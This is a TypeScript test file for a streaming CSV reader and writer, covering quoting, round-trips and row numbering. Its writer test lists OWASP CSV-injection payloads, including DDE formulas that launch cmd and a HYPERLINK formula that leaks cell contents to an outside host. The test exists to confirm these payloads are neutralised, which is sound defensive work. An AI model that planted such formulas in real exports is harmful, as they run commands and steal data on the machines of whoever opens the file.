import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvError, readCsv } from './csv-reader.js';
import { csvCellText, csvRecords, UTF8_BOM } from './csv-writer.js';

const bytes = (text: string, cuts: number[] = []): ReadableStream<Uint8Array> => {
  const all = new TextEncoder().encode(text);
  return new ReadableStream({
    start(controller) {
      let at = 0;
      for (const size of cuts) {
        controller.enqueue(all.slice(at, at + size));
        at += size;
      }
      controller.enqueue(all.slice(at));
      controller.close();
    },
  });
};

const readAll = async (text: string, cuts: number[] = []) => {
  const out: { row: number; cells: string[] }[] = [];
  for await (const r of readCsv(bytes(text, cuts))) out.push(r);
  return out;
};

// OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): the example payloads and
// the characters a cell must not begin with.
const OWASP_PAYLOADS = [
  '=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '+1+1',
  '+(1+1)',
  '@SUM(1+1)',
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  "=cmd|' /C notepad'!'A1'",
  "=10+20+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1',
  '\t=1',
  '\r=1',
];

describe('the CSV writer', () => {
  it('neutralises every OWASP payload: no written cell begins with = + - @ tab or CR', async () => {
    const text = csvRecords(OWASP_PAYLOADS.map((p) => [p]));
    const read = await readAllRaw(text);
    for (const [i, cell] of read.entries()) {
      expect(cell, OWASP_PAYLOADS[i]).toMatch(/^'/);
      expect(cell.slice(1), OWASP_PAYLOADS[i]).toBe(OWASP_PAYLOADS[i]);
    }
  });

  it('quotes what needs it, writes numbers as numbers and keeps negative numbers numeric', () => {
    expect(csvRecords([['a,b', 'say "hi"', null, true, ['a'], 12, -5, '-12.50', '-', ' x']])).toBe(
      '"a,b","say ""hi""",,true,"[""a""]",12,-5,-12.50,\'-," x"\r\n',
    );
    expect(csvCellText('+86 21 5555 0000')).toBe("'+86 21 5555 0000");
  });

  it('reads back exactly what it wrote, guard removed, however the bytes arrive', async () => {
    const cell = fc.string({
      unit: fc.constantFrom('a', '中', ',', '"', '\n', '\r', ' ', "'", '=', '+', '-', '@', '\t', '1'),
      maxLength: 6,
    });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 6 }),
        fc.array(fc.integer({ min: 0, max: 8 }), { maxLength: 20 }),
        async (rows, cuts) => {
          const read = await readAll(UTF8_BOM + csvRecords(rows), cuts);
          expect(read.map((r) => r.cells)).toEqual(rows);
        },
      ),
      { numRuns: 300 },
    );
  });
});

/** Cells as a spreadsheet would see them: parsed, guard left in place. */
async function readAllRaw(text: string): Promise<string[]> {
  const { parse } = await import('csv-parse/sync');
  return (parse(text, { record_delimiter: ['\r\n'] }) as string[][]).map((r) => r[0]!);
}

describe('the CSV reader', () => {
  it('reads quotes, escaped quotes, commas and line breaks in fields, and every line ending', async () => {
    const text = '\uFEFFname,note\r\n"上海, 华联","他说""好""\r\n第二行"\nplain,x\rlast," "\r\n\r\n';
    expect((await readAll(text)).map((r) => r.cells)).toEqual([
      ['name', 'note'],
      ['上海, 华联', '他说"好"\r\n第二行'],
      ['plain', 'x'],
      ['last', ' '],
    ]);
  });

  it('numbers rows as a spreadsheet does: the header is row 1 and blank lines count', async () => {
    const rows = await readAll('h\r\n\r\na\r\n"b\r\nc"\r\n\n\nd');
    expect(rows.map((r) => [r.row, r.cells[0]])).toEqual([
      [1, 'h'],
      [3, 'a'],
      [4, 'b\r\nc'],
      [7, 'd'],
    ]);
  });

  it('refuses an unclosed quote at its row, and records beyond the limits', async () => {
    await expect(readAll('a\r\n\r\n"open')).rejects.toMatchObject({ name: 'CsvError', row: 3 });
    const tooWide = readCsv(bytes('a,b,c,d\n'), { maxRecordChars: 100, maxFields: 3 });
    await expect(tooWide.next()).rejects.toThrow(/more than 3 fields/);
    const tooLong = readCsv(bytes('abcdefghij,k\n'), { maxRecordChars: 5, maxFields: 3 });
    await expect(tooLong.next()).rejects.toBeInstanceOf(CsvError);
  });
});
